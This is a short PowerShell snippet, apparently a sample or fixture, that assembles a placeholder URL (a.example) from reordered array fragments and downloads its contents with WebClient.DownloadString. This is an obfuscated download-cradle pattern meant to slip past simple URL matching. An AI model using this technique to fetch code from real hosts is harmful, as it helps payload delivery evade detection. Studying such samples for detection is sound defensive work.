$l='/x.txt','a.example/p','http://'
$wc = New-Object System.Net.WebClient
$wc.DownloadString(($l[-1]+$l[-2]+$l[0]))
